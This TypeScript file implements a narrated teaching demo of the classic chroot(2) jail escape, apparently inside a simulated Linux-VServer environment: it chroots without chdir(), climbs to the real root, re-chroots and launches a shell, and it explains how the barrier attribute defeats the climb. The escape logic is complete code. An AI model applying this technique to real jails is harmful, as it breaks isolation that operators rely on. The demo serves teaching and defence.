/**
 * chroot-escape — a teaching demo shipped with the lab's host tools (not part of util-vserver):
 * the classic escape from a plain chroot(2) jail, narrated step by step. It makes a directory,
 * chroot()s into it without chdir() — so the working directory is left outside the new root,
 * where `..` is not stopped — climbs with chdir("..") until `.` and `..` are the same directory,
 * chroot(".")s there and runs a command (a shell by default) with the real root.
 *
 * Linux-VServer's answer is the barrier attribute on the directory above the guests' roots
 * (/vservers): a process of a guest context cannot enter it, so the climb ends with EACCES and
 * the program says so and exits 1. The host (context 0) and the spectator (1) are not stopped.
 */
import { SyscallError } from '../../kernel/errno.js';
import { defineProgram } from '../registry.js';
import { searchPath } from '../lib/search-path.js';
import { runUvTool } from './lib/frame.js';

/** The directory the demo makes in the working directory and chroots into. */
export const ESCAPE_DIR = '.chroot-escape';

/** Enough for any path: the climb stops earlier, at the top. */
const MAX_STEPS = 1024;

const HELP = `Usage: chroot-escape [COMMAND [ARG]...]
Escape from a chroot jail the classic way, explaining each step:
mkdir ${ESCAPE_DIR}, chroot() into it without chdir() (the working directory is
then outside the root), chdir("..") up to the real root, chroot("."), then run
COMMAND (default: /bin/sh -i). Needs CAP_SYS_CHROOT (root).

A directory with the barrier attribute above the jail (setattr --barrier, as on
/vservers) stops processes of a guest context: the climb fails with EACCES.

      --help     display this help and exit

Exit status: 1 if the escape failed, 127 if COMMAND cannot be found, else the
status of COMMAND.
`;

defineProgram({
  name: 'chroot-escape',
  options: ['--help'],
  main: (proc) =>
    runUvTool(proc, 'chroot-escape', async (tool) => {
      const { options, operands } = await tool.options([{ long: 'help' }], "Try `chroot-escape --help' for more information.\n", 1, true);
      if (options.some((o) => o.key === 'help')) tool.help(HELP);
      const fs = proc.fs;
      const say = (text: string) => tool.print(`chroot-escape: ${text}\n`);
      const failed = (what: string, e: unknown): Promise<never> => {
        if (!(e instanceof SyscallError)) throw e;
        return tool.fail(`chroot-escape: ${what}: ${e.message}\n`, 1);
      };

      try {
        fs.mkdir(ESCAPE_DIR, 0o755);
      } catch (e) {
        if (!(e instanceof SyscallError && e.code === 'EEXIST')) return failed(`mkdir("${ESCAPE_DIR}")`, e);
      }
      try {
        fs.chroot(ESCAPE_DIR);
      } catch (e) {
        return failed(`chroot("${ESCAPE_DIR}")`, e);
      }
      say(`chroot("${ESCAPE_DIR}") without chdir(): the working directory is now outside the root`);

      // Climb until "." and ".." are the same directory: the top of the filesystem.
      let steps = 0;
      for (; steps < MAX_STEPS; steps++) {
        const here = fs.stat('.');
        const parent = fs.stat('..');
        if (here.dev === parent.dev && here.ino === parent.ino) break;
        try {
          fs.chdir('..');
        } catch (e) {
          if (!(e instanceof SyscallError)) throw e;
          await tool.err(`chroot-escape: chdir(".."): ${e.message} after ${steps} step${steps === 1 ? '' : 's'}\n`);
          if (e.code === 'EACCES') await tool.err('chroot-escape: a directory above has the barrier attribute: the escape failed, still inside the jail\n');
          return 1;
        }
        await proc.checkpoint();
      }
      try {
        fs.chroot('.');
        fs.chdir('/');
      } catch (e) {
        return failed('chroot(".")', e);
      }
      const argv = operands.length ? operands : ['/bin/sh', '-i'];
      say(`${steps} x chdir("..") reached the real root; chroot(".") there: escaped`);
      say(`running ${argv.join(' ')}`);
      await tool.out.flush();
      const path = searchPath(proc, argv[0]!);
      try {
        if (path === undefined) throw new SyscallError('ENOENT');
        return await proc.exec(path, argv, proc.env);
      } catch (e) {
        if (!(e instanceof SyscallError)) throw e;
        return tool.fail(`chroot-escape: cannot run ${argv[0]}: ${e.message}\n`, e.code === 'ENOENT' ? 127 : 126);
      }
    }),
});
